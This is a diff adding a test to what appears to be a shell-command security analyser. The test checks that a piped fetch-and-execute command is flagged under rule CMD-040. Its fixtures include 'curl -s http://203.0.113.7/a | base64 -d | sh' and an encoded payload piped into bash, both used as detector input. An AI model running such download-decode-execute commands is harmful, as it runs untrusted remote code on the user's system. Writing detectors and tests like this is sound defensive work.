@@ -62,6 +62,16 @@ test.each([
   expect(found(script)).toContain('CMD-001')
 })
 
+test('what goes through a pipe into an interpreter is told with the interpreter', () => {
+  const { observations } = analyseCommands('curl -s http://203.0.113.7/a | base64 -d | sh\n')
+  expect(observations).toContainEqual(
+    expect.objectContaining({
+      rule: expect.objectContaining({ id: 'CMD-040' }),
+      evidence: 'curl -s http://203.0.113.7/a | base64 -d | sh',
+    }),
+  )
+})
+
 test('what it was hidden in is told, with the text that is run and its line', () => {
   const { observations } = analyseCommands(`true\n\necho ${BASE64} | base64 -d | bash\n`)
   expect(observations).toContainEqual(
